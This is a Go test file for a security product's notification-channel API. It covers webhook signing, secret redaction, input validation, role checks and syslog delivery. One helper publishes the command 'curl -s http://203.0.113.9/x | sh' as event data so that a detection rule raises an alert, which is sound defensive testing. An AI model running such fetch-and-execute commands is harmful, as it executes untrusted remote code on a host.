package api

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/vigilsec/vigil/internal/bus"
	"github.com/vigilsec/vigil/internal/center/api/apitest"
	"github.com/vigilsec/vigil/internal/center/auth"
	"github.com/vigilsec/vigil/internal/center/detect"
	"github.com/vigilsec/vigil/internal/center/eventbatch/batchtest"
	"github.com/vigilsec/vigil/internal/center/notify"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
	"github.com/vigilsec/vigil/internal/store/sqlite"
)

// Credentials of the channels the tests configure: none may appear in an
// answer, a log line, an audit entry or the database file.
const (
	hookToken    = "tok3n-Of-The-Hook-7f9a2c"
	hookSecret   = "whsec-9b1e4d7a2c5f8e3b"
	hookAuth     = "Bearer hdr-cr3d-5e8a1f"
	robotToken   = "a1b2c3d4e5f60718293a4b5c6d7e8f90"
	robotSecret  = "SECf00dfeedbeef1234567890"
	mailPassword = "smtp-pa55-w0rd-Q7"
)

var notifySecrets = []string{hookToken, hookSecret, hookAuth, robotToken, robotSecret, mailPassword}

// The center's notification service fits the API's seam.
var _ NotifyChannels = (*notify.Service)(nil)

// syncBuffer collects log lines written from many goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// hookRequest is a request the webhook receiver got.
type hookRequest struct {
	header http.Header
	body   []byte
	query  string
}

// hookReceiver is a webhook endpoint on 127.0.0.1 over TLS; caFile is
// its certificate, which the channels trust.
type hookReceiver struct {
	*httptest.Server
	caFile string
	got    chan hookRequest
}

func newHookReceiver(t *testing.T) *hookReceiver {
	t.Helper()
	h := &hookReceiver{got: make(chan hookRequest, 100)}
	h.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		h.got <- hookRequest{header: r.Header.Clone(), body: body, query: r.URL.RawQuery}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(h.Close)
	h.caFile = filepath.Join(t.TempDir(), "hook-ca.pem")
	pemData := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: h.Certificate().Raw})
	if err := os.WriteFile(h.caFile, pemData, 0o600); err != nil {
		t.Fatal(err)
	}
	return h
}

// next returns the next request, failing after 10 s.
func (h *hookReceiver) next(t *testing.T, what string) hookRequest {
	t.Helper()
	select {
	case r := <-h.got:
		return r
	case <-time.After(10 * time.Second):
		t.Fatalf("the webhook receiver got no %s", what)
	}
	return hookRequest{}
}

// none checks that no request arrives for a while.
func (h *hookReceiver) none(t *testing.T, wait time.Duration) {
	t.Helper()
	select {
	case r := <-h.got:
		t.Fatalf("unexpected webhook request: %s", r.body)
	case <-time.After(wait):
	}
}

// notifyEnv is the API with the real notification service over a real
// SQLite store, detection on a JetStream server, and a log.
type notifyEnv struct {
	*env
	svc     *notify.Service
	logs    *syncBuffer
	js      jetstream.JetStream
	keyFile string
	dbFile  string
	hook    *hookReceiver
	// answers keeps every answer body, to look for secrets.
	answers *syncBuffer
}

// newNotifyEnv starts everything with the channels of file.
func newNotifyEnv(t *testing.T, file notify.Config) *notifyEnv {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	e := &notifyEnv{logs: &syncBuffer{}, answers: &syncBuffer{}, keyFile: filepath.Join(dir, "data", notify.KeyFileName),
		dbFile: filepath.Join(dir, "vigil.db")}
	st, err := sqlite.Open(ctx, e.dbFile, sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	e.env = &env{t: t, st: st, clock: &clock{t: time.Now().UTC()}, tokens: map[store.Role]string{}}
	if _, err := auth.Bootstrap(ctx, st, t.TempDir(), adminToken); err != nil {
		t.Fatal(err)
	}
	e.tokens[store.RoleAdmin] = adminToken
	for _, role := range []store.Role{store.RoleViewer, store.RoleAnalyst, store.RoleResponder} {
		id, bearer, err := auth.NewBearer(auth.APITokenPrefix)
		if err != nil {
			t.Fatal(err)
		}
		err = st.APITokens().Create(ctx, store.APIToken{ID: id, Name: string(role) + "-bot", Kind: auth.KindAPI, Role: role,
			Hash: auth.HashBearer(bearer), CreatedAt: e.clock.Now()})
		if err != nil {
			t.Fatal(err)
		}
		e.tokens[role] = bearer
	}
	log := slog.New(slog.NewJSONHandler(e.logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	e.svc, err = notify.NewService(ctx, notify.ServiceConfig{
		File: file, FileName: "notify.yaml", Store: st.NotifyChannels(), KeyFile: e.keyFile,
		PollInterval: 50 * time.Millisecond, Logger: log.With("part", "notify"),
	})
	if err != nil {
		t.Fatal(err)
	}
	runCtx, cancel := context.WithCancel(ctx)
	var wg sync.WaitGroup
	wg.Go(func() {
		if err := e.svc.Run(runCtx); err != nil {
			t.Errorf("notify: %v", err)
		}
	})

	// Detection on the events stream, raising alerts to the service.
	_, e.js = batchtest.Server(t)
	rules, err := detect.NewRules(ctx, apitest.RulePack(), st.Rules(), log)
	if err != nil {
		t.Fatal(err)
	}
	det := detect.New(detect.Config{JS: e.js, Store: st, Rules: rules, Notifier: e.svc, Logger: log.With("part", "detect"),
		Checkpoint: 50 * time.Millisecond})
	wg.Go(func() {
		if err := det.Run(runCtx); err != nil {
			t.Errorf("detect: %v", err)
		}
	})
	t.Cleanup(func() { cancel(); wg.Wait() })

	h := New(Config{
		Store: st, Commands: &fleetCommander{st: st}, Revoker: &revocations{}, Policies: &publisher{st: st},
		Detection: det, Notify: e.svc, Logger: log.With("part", "api"),
	})
	e.srv = httptest.NewServer(e.keepAnswers(h))
	t.Cleanup(e.srv.Close)
	e.hook = newHookReceiver(t)
	return e
}

// keepAnswers copies every answer body into e.answers.
func (e *notifyEnv) keepAnswers(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		next.ServeHTTP(rec, r)
		e.answers.Write(rec.Body.Bytes())
		for k, v := range rec.Header() {
			w.Header()[k] = v
		}
		w.WriteHeader(rec.Code)
		_, _ = w.Write(rec.Body.Bytes())
	})
}

// hookChannel is the body of a webhook channel to the receiver, with a
// token in its URL, a signing secret and a secret header.
func (e *notifyEnv) hookChannel(extra map[string]any) map[string]any {
	ch := map[string]any{
		"type": "webhook",
		"webhook": map[string]any{
			"url":     e.hook.URL + "/hooks/vigil?token=" + hookToken,
			"secret":  hookSecret,
			"headers": map[string]any{"Authorization": hookAuth},
			"tls":     map[string]any{"ca_file": e.hook.caFile},
		},
		"delivery": map[string]any{"initial_backoff": "10ms", "max_backoff": "50ms"},
	}
	for k, v := range extra {
		ch[k] = v
	}
	return ch
}

// raiseCurlPipe publishes an event that the shipped curl-pipe rule turns
// into a new high alert.
func (e *notifyEnv) raiseCurlPipe(agent string) {
	e.t.Helper()
	ev := event.New(fmt.Sprintf("ev-%d", time.Now().UnixNano()), time.Now(), "process", "exec")
	ev.Set(event.FieldAgentID, agent)
	ev.Set("process.executable", "/usr/bin/curl")
	ev.Set("process.command_line", "curl -s http://203.0.113.9/x | sh")
	ev.Set("process.entity_id", "p-"+agent)
	_, err := e.js.Publish(context.Background(), bus.EventsSubject(agent),
		batchtest.Message(agent, batchtest.Lines(e.t, []event.Event{ev}), 1, true, 0))
	if err != nil {
		e.t.Fatal(err)
	}
}

// channel reads one channel through the API.
func (e *notifyEnv) channel(name string) notify.ChannelView {
	e.t.Helper()
	var v notify.ChannelView
	e.call("GET", "/api/v1/notify/channels/"+name, store.RoleViewer, nil, 200, &v)
	return v
}

// section decodes the section of a view's configuration.
func section(t *testing.T, v notify.ChannelView) map[string]any {
	t.Helper()
	var cfg map[string]any
	if err := json.Unmarshal(v.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	sec, _ := cfg[string(v.Type)].(map[string]any)
	return sec
}

func TestNotifyChannelThroughTheAPI(t *testing.T) {
	e := newNotifyEnv(t, notify.Config{})

	// Created through the API: it runs at once, without a restart.
	var v notify.ChannelView
	e.call("PUT", "/api/v1/notify/channels/ticketing", store.RoleAdmin, e.hookChannel(nil), 201, &v)
	if v.Source != notify.SourceAPI || !v.Running || v.Revision != 1 || v.CreatedBy != "token:bootstrap-admin" || v.UpdatedBy != v.CreatedBy {
		t.Errorf("created %+v", v)
	}
	wh := section(t, v)
	wantURL := map[string]any{"set": true, "redacted": e.hook.URL + "/hooks/vigil?token=REDACTED"}
	if fmt.Sprint(wh["url"]) != fmt.Sprint(wantURL) || fmt.Sprint(wh["secret"]) != "map[set:true]" ||
		fmt.Sprint(wh["headers"]) != "map[Authorization:map[set:true]]" {
		t.Errorf("webhook section shown as %v", wh)
	}

	// The test message arrives now, signed, with the header.
	var res notify.TestResult
	e.call("POST", "/api/v1/notify/channels/ticketing/test", store.RoleAdmin, nil, 200, &res)
	if !res.OK || res.Error != "" {
		t.Fatalf("test = %+v", res)
	}
	got := e.hook.next(t, "test message")
	if sig := got.header.Get(notify.HeaderSignature); sig != notify.Sign([]byte(hookSecret), got.body) {
		t.Errorf("test message signature %q", sig)
	}
	if got.header.Get("Authorization") != hookAuth || got.query != "token="+hookToken {
		t.Errorf("test message header %q, query %q", got.header.Get("Authorization"), got.query)
	}
	var payload notify.WebhookPayload
	if err := json.Unmarshal(got.body, &payload); err != nil || payload.Alert != nil || payload.Kind != notify.KindAlert {
		t.Errorf("test payload %s (%v)", got.body, err)
	}

	// A real alert: detection raises it from an event, the channel
	// delivers it.
	e.raiseCurlPipe("ag-1")
	got = e.hook.next(t, "alert")
	if err := json.Unmarshal(got.body, &payload); err != nil || payload.Alert == nil || payload.Alert.RuleID != apitest.RuleCurlPipe ||
		payload.Alert.AgentID != "ag-1" {
		t.Fatalf("alert payload %s (%v)", got.body, err)
	}
	if got.header.Get(notify.HeaderSignature) != notify.Sign([]byte(hookSecret), got.body) {
		t.Error("the alert is not signed")
	}
	waitUntil(t, "the delivery to be counted", func() bool { return e.channel("ticketing").Stats.Sent == 1 })

	// The listing has the counters.
	var list struct {
		Items      []notify.ChannelView `json:"items"`
		NextCursor *string              `json:"next_cursor"`
	}
	e.call("GET", "/api/v1/notify/channels", store.RoleViewer, nil, 200, &list)
	if len(list.Items) != 1 || list.Items[0].Name != "ticketing" || list.Items[0].Stats.Sent != 1 ||
		list.Items[0].Stats.Failed != 0 || list.Items[0].Stats.Queued != 0 || list.NextCursor == nil || *list.NextCursor != "" {
		t.Errorf("listing %+v", list)
	}

	// A replacement that leaves the secrets out keeps them; only critical
	// alerts pass its filter now.
	repl := map[string]any{"type": "webhook", "filter": map[string]any{"min_severity": "critical"},
		"webhook": map[string]any{"tls": map[string]any{"ca_file": e.hook.caFile}}}
	e.call("PUT", "/api/v1/notify/channels/ticketing", store.RoleAdmin, repl, 200, &v)
	if v.Revision != 2 || v.CreatedBy != "token:bootstrap-admin" || !v.Running || v.Stats.Sent != 1 {
		t.Errorf("replaced %+v", v)
	}
	e.call("POST", "/api/v1/notify/channels/ticketing/test", store.RoleAdmin, nil, 200, &res)
	got = e.hook.next(t, "test message after the replacement")
	if !res.OK || got.header.Get(notify.HeaderSignature) != notify.Sign([]byte(hookSecret), got.body) ||
		got.header.Get("Authorization") != hookAuth || got.query != "token="+hookToken {
		t.Errorf("after a replacement without secrets: %+v, header %v, query %q", res, got.header, got.query)
	}
	e.raiseCurlPipe("ag-2") // high: filtered out now
	e.hook.none(t, 300*time.Millisecond)

	// The view given back as it was shown keeps everything; "" clears
	// the secret.
	var cfg map[string]any
	if err := json.Unmarshal(v.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	cfg["webhook"].(map[string]any)["secret"] = ""
	e.call("PUT", "/api/v1/notify/channels/ticketing", store.RoleAdmin, cfg, 200, &v)
	if s := section(t, v); fmt.Sprint(s["secret"]) != "map[set:false]" || fmt.Sprint(s["url"]) != fmt.Sprint(wantURL) {
		t.Errorf("after clearing the secret: %v", s)
	}
	e.call("POST", "/api/v1/notify/channels/ticketing/test", store.RoleAdmin, nil, 200, &res)
	if got = e.hook.next(t, "unsigned test message"); got.header.Get(notify.HeaderSignature) != "" || got.header.Get("Authorization") != hookAuth {
		t.Errorf("after clearing the secret: header %v", got.header)
	}

	entries := e.audit("notify.channel.")
	var actions []string
	for _, a := range entries {
		actions = append(actions, a.Action+"/"+a.Result)
	}
	want := "notify.channel.test/ok notify.channel.put/ok notify.channel.test/ok notify.channel.put/ok notify.channel.test/ok notify.channel.put/ok"
	if strings.Join(actions, " ") != want {
		t.Errorf("audit %v", actions)
	}
	if d := entries[0].Detail; entries[0].Target != "ticketing" || d["ok"] != true {
		t.Errorf("test audit entry %+v", entries[0])
	}
	if d := entries[1].Detail; fmt.Sprint(d["secrets_changed"]) != "[webhook.secret]" || d["created"] != false {
		t.Errorf("put audit entry %+v", entries[1])
	}
	if d := entries[5].Detail; d["created"] != true || fmt.Sprint(d["secrets_changed"]) != "[webhook.url webhook.secret webhook.headers.Authorization]" {
		t.Errorf("create audit entry %+v", entries[5])
	}

	// Deleted: it stops at once.
	e.call("DELETE", "/api/v1/notify/channels/ticketing", store.RoleAdmin, nil, 204, nil)
	status, data := e.do("GET", "/api/v1/notify/channels/ticketing", e.tokens[store.RoleViewer], nil)
	if status != 404 || errorMessage(data) != "notification channel ticketing not found" {
		t.Errorf("after delete: %d %s", status, data)
	}
	e.call("POST", "/api/v1/notify/channels/ticketing/test", store.RoleAdmin, nil, 404, nil)
	e.call("DELETE", "/api/v1/notify/channels/ticketing", store.RoleAdmin, nil, 404, nil)
	if entries := e.audit("notify.channel.delete"); len(entries) != 2 || entries[1].Result != "ok" || entries[1].Detail["dropped"] != float64(0) {
		t.Errorf("delete audit %+v", entries)
	}
	e.raiseCurlPipe("ag-3")
	e.hook.none(t, 300*time.Millisecond)

	e.assertNoSecrets()
}

// assertNoSecrets looks for every credential in the answers, the log,
// the audit log (stored and listed) and the database file.
func (e *notifyEnv) assertNoSecrets() {
	e.t.Helper()
	entries := e.audit("")
	auditJSON, err := json.Marshal(entries)
	if err != nil {
		e.t.Fatal(err)
	}
	listed := e.call("GET", "/api/v1/audit?limit=1000", store.RoleAdmin, nil, 200, nil)
	db, err := os.ReadFile(e.dbFile)
	if err != nil {
		e.t.Fatal(err)
	}
	wal, _ := os.ReadFile(e.dbFile + "-wal")
	places := map[string]string{
		"answers": e.answers.String(), "log": e.logs.String(), "audit": string(auditJSON),
		"audit listing": string(listed), "database": string(db) + string(wal),
	}
	if !strings.Contains(places["log"], "notification channels changed") || len(entries) == 0 {
		e.t.Fatalf("nothing to look at: %d audit entries, log:\n%s", len(entries), places["log"])
	}
	for where, text := range places {
		for _, s := range notifySecrets {
			if strings.Contains(text, s) {
				e.t.Errorf("the %s holds the credential %.6s...", where, s)
			}
		}
	}
}

// waitUntil polls cond for up to 10 s.
func waitUntil(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestNotifyChannelSecretsStayWriteOnly(t *testing.T) {
	e := newNotifyEnv(t, notify.Config{})
	robot := map[string]any{"type": "dingtalk", "dingtalk": map[string]any{
		"url": "https://oapi.dingtalk.com/robot/send?access_token=" + robotToken, "secret": robotSecret}}
	mail := map[string]any{"type": "email", "disabled": true, "email": map[string]any{
		"host": "127.0.0.1", "port": 2525, "username": "vigil", "password": mailPassword,
		"from": "Vigil <vigil@example.internal>", "to": []string{"soc@example.internal"}}}
	e.call("PUT", "/api/v1/notify/channels/soc-dingtalk", store.RoleAdmin, robot, 201, nil)
	e.call("PUT", "/api/v1/notify/channels/soc-mail", store.RoleAdmin, mail, 201, nil)
	e.call("PUT", "/api/v1/notify/channels/hook", store.RoleAdmin, e.hookChannel(nil), 201, nil)

	var v notify.ChannelView
	e.call("GET", "/api/v1/notify/channels/soc-mail", store.RoleViewer, nil, 200, &v)
	if s := section(t, v); fmt.Sprint(s["password"]) != "map[set:true]" || s["username"] != "vigil" || !v.Disabled || v.Running {
		t.Errorf("mail channel %+v, section %v", v, s)
	}
	e.call("GET", "/api/v1/notify/channels/soc-dingtalk", store.RoleViewer, nil, 200, &v)
	if s := section(t, v); fmt.Sprint(s["url"]) != "map[redacted:https://oapi.dingtalk.com/robot/send?access_token=REDACTED set:true]" {
		t.Errorf("robot section %v", s)
	}
	// A failed test's error and counters hold no credential either: the
	// mail server does not exist.
	var res notify.TestResult
	e.call("POST", "/api/v1/notify/channels/soc-mail/test", store.RoleAdmin, nil, 200, &res)
	if res.OK || res.Error == "" {
		t.Errorf("test of a mail channel without server = %+v", res)
	}
	e.call("GET", "/api/v1/notify/channels", store.RoleViewer, nil, 200, nil)
	e.do("PUT", "/api/v1/notify/channels/hook", adminToken, map[string]any{"type": "webhook", "webhook": map[string]any{"url": "ftp://x"}})
	e.assertNoSecrets()
}

func TestNotifyChannelValidation(t *testing.T) {
	e := newNotifyEnv(t, notify.Config{})
	e.call("PUT", "/api/v1/notify/channels/ops", store.RoleAdmin, map[string]any{"type": "wecom",
		"wecom": map[string]any{"url": "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=" + robotToken}}, 201, nil)
	for _, tc := range []struct {
		name, path string
		body       any
		status     int
		fields     []string // "path: reason start"
	}{
		{"unknown field", "x", `{"type":"webhook","webhook":{"url":"https://h.example/x"},"colour":"red"}`, 400,
			[]string{`: bad JSON: unknown field "colour"`}},
		{"wrong type", "x", `{"type":"webhook","webhook":{"url":"https://h.example/x"},"delivery":{"queue_size":"big"}}`, 400,
			[]string{": bad JSON: "}},
		{"not JSON", "x", `{"type":`, 400, []string{": bad JSON: "}},
		{"not an object", "x", `[1,2]`, 400, []string{": bad JSON: want an object"}},
		{"every bad field", "x", map[string]any{"type": "webhook", "language": "fr",
			"delivery": map[string]any{"timeout": "1h", "queue_size": 0},
			"filter":   map[string]any{"techniques": []string{"T1", "T1059.004"}},
			"webhook":  map[string]any{"url": "ftp://h.example/x"}}, 400,
			[]string{"language: must be en or zh", "filter.techniques[0]: ", "delivery.timeout: 1h0m0s is out of range",
				"webhook.url: must be an http or https URL"}},
		{"missing section", "x", map[string]any{"type": "syslog"}, 400, []string{"syslog: missing"}},
		{"other section", "x", map[string]any{"type": "wecom", "wecom": map[string]any{"url": "https://q.example/s?key=k"},
			"feishu": map[string]any{"url": "https://open.feishu.cn/open-apis/bot/v2/hook/x"}}, 400,
			[]string{"feishu: does not belong to a channel of type wecom"}},
		{"robot URL without its token", "x", map[string]any{"type": "dingtalk", "dingtalk": map[string]any{"url": "https://oapi.dingtalk.com/robot/send"}}, 400,
			[]string{"dingtalk.url: must carry the robot's access_token"}},
		{"keep without a stored value", "x", map[string]any{"type": "dingtalk", "dingtalk": map[string]any{"url": map[string]any{"set": true}}}, 400,
			[]string{`dingtalk.url: {"set": true} keeps the stored value, but none is stored`}},
		{"marker of another shape", "x", map[string]any{"type": "wecom", "wecom": map[string]any{"url": map[string]any{"keep": true}}}, 400,
			[]string{"wecom.url: want the value"}},
		{"name of another channel", "x", map[string]any{"name": "y", "type": "wecom", "wecom": map[string]any{"url": "https://q.example/s?key=k"}}, 400,
			[]string{`name: is "y", but the channel updated is "x"`}},
		{"bad name", "Bad_Name", map[string]any{"type": "wecom", "wecom": map[string]any{"url": "https://q.example/s?key=k"}}, 400,
			[]string{"name: must be 1 to 63 characters"}},
		{"unreadable CA file", "x", map[string]any{"type": "webhook", "webhook": map[string]any{"url": "https://h.example/x",
			"tls": map[string]any{"ca_file": "/nonexistent/ca.pem"}}}, 400, []string{": channel x: tls ca_file: open /nonexistent/ca.pem"}},
		{"type changed: nothing kept", "ops", map[string]any{"type": "feishu", "feishu": map[string]any{"url": map[string]any{"set": true}}}, 400,
			[]string{`feishu.url: {"set": true} keeps the stored value, but none is stored`}},
		{"cleared URL", "ops", map[string]any{"type": "wecom", "wecom": map[string]any{"url": nil}}, 400,
			[]string{"wecom.url: is required"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, data := e.do("PUT", "/api/v1/notify/channels/"+tc.path, adminToken, tc.body)
			if status != tc.status {
				t.Fatalf("status %d, want %d: %s", status, tc.status, data)
			}
			var ref channelRefusal
			if err := json.Unmarshal(data, &ref); err != nil || ref.Error.Code != "bad_request" || !strings.HasPrefix(ref.Error.Message, "invalid notification channel: ") {
				t.Fatalf("answer %s (%v)", data, err)
			}
			var got []string
			for _, f := range ref.Fields {
				got = append(got, f.Path+": "+f.Reason)
			}
			if len(got) != len(tc.fields) {
				t.Fatalf("fields %q, want %d like %q", got, len(tc.fields), tc.fields)
			}
			for i, w := range tc.fields {
				if !strings.HasPrefix(got[i], w) {
					t.Errorf("field %d: %q, want it to start with %q", i, got[i], w)
				}
			}
		})
	}
	// Nothing was stored by the refused puts, and the refusals are audited.
	var list struct{ Items []notify.ChannelView }
	e.call("GET", "/api/v1/notify/channels", store.RoleViewer, nil, 200, &list)
	if len(list.Items) != 1 || list.Items[0].Name != "ops" || list.Items[0].Revision != 1 {
		t.Errorf("channels after refusals: %+v", list.Items)
	}
	entries := e.audit("notify.channel.put")
	if len(entries) < 10 || entries[0].Result != "error" || entries[0].Detail["problems"] == nil {
		t.Errorf("refusals audited as %+v", entries[0])
	}
	if status, data := e.do("PUT", "/api/v1/notify/channels/big", adminToken, `{"type":"webhook","x":"`+strings.Repeat("a", maxBody)+`"}`); status != 413 {
		t.Errorf("a body too large: %d %s", status, data)
	}
}

func TestNotifyChannelRoles(t *testing.T) {
	e := newNotifyEnv(t, notify.Config{})
	body := e.hookChannel(nil)
	e.call("PUT", "/api/v1/notify/channels/hook", store.RoleAdmin, body, 201, nil)
	for _, role := range []store.Role{store.RoleViewer, store.RoleAnalyst, store.RoleResponder} {
		e.call("GET", "/api/v1/notify/channels", role, nil, 200, nil)
		e.call("GET", "/api/v1/notify/channels/hook", role, nil, 200, nil)
		for _, c := range []struct{ method, path string }{
			{"PUT", "/api/v1/notify/channels/hook"}, {"PUT", "/api/v1/notify/channels/new"},
			{"DELETE", "/api/v1/notify/channels/hook"}, {"POST", "/api/v1/notify/channels/hook/test"},
		} {
			status, data := e.do(c.method, c.path, e.tokens[role], body)
			if status != 403 || errorCode(t, data) != "forbidden" {
				t.Errorf("%s %s as %s: %d %s", c.method, c.path, role, status, data)
			}
		}
	}
	denied := 0
	for _, a := range e.audit("notify.channel.") {
		if a.Result == "denied" {
			denied++
		}
	}
	if denied != 12 {
		t.Errorf("%d denied calls audited, want 12", denied)
	}
	if v := e.channel("hook"); v.Revision != 1 || !v.Running {
		t.Errorf("the channel changed: %+v", v)
	}
	e.hook.none(t, 100*time.Millisecond)
	status, _ := e.do("GET", "/api/v1/notify/channels", "", nil)
	if status != 401 {
		t.Errorf("without a token: %d", status)
	}
}

func TestNotifyFileChannelsAreReadOnly(t *testing.T) {
	// A syslog collector on loopback receives the file channel's test.
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	file := notify.Config{Channels: []notify.ChannelConfig{{Name: "siem", Type: notify.TypeSyslog,
		Syslog: &notify.SyslogConfig{Network: notify.NetworkUDP, Address: pc.LocalAddr().String()}}}}
	e := newNotifyEnv(t, file)
	e.call("PUT", "/api/v1/notify/channels/hook", store.RoleAdmin, e.hookChannel(nil), 201, nil)

	var list struct{ Items []notify.ChannelView }
	e.call("GET", "/api/v1/notify/channels", store.RoleViewer, nil, 200, &list)
	if len(list.Items) != 2 || list.Items[0].Name != "siem" || list.Items[0].Source != notify.SourceFile ||
		!list.Items[0].Running || list.Items[1].Name != "hook" || list.Items[1].Source != notify.SourceAPI {
		t.Fatalf("listing %+v", list.Items)
	}
	for _, c := range []struct{ method string }{{"PUT"}, {"DELETE"}} {
		status, data := e.do(c.method, "/api/v1/notify/channels/siem", adminToken, e.hookChannel(nil))
		if status != 409 || !strings.Contains(errorMessage(data), "defined in the notification file") {
			t.Errorf("%s of a file channel: %d %s", c.method, status, data)
		}
	}
	var res notify.TestResult
	e.call("POST", "/api/v1/notify/channels/siem/test", store.RoleAdmin, nil, 200, &res)
	buf := make([]byte, 65536)
	_ = pc.SetReadDeadline(time.Now().Add(10 * time.Second))
	n, _, err := pc.ReadFrom(buf)
	if !res.OK || err != nil || !bytes.Contains(buf[:n], []byte("vigil.notify.test")) {
		t.Errorf("file channel test %+v: %v %q", res, err, buf[:n])
	}

	// An alert goes to both.
	e.raiseCurlPipe("ag-9")
	e.hook.next(t, "alert")
	n, _, err = pc.ReadFrom(buf)
	if err != nil || !bytes.Contains(buf[:n], []byte(apitest.RuleCurlPipe)) {
		t.Errorf("syslog alert: %v %q", err, buf[:n])
	}
}

func TestNotifyOff(t *testing.T) {
	e := newEnv(t)
	for _, c := range []struct{ method, path string }{
		{"GET", "/api/v1/notify/channels"}, {"GET", "/api/v1/notify/channels/x"}, {"PUT", "/api/v1/notify/channels/x"},
		{"DELETE", "/api/v1/notify/channels/x"}, {"POST", "/api/v1/notify/channels/x/test"},
	} {
		status, data := e.do(c.method, c.path, adminToken, "{}")
		if status != 503 || errorMessage(data) != "notifications are off on this center" {
			t.Errorf("%s %s: %d %s", c.method, c.path, status, data)
		}
	}
}
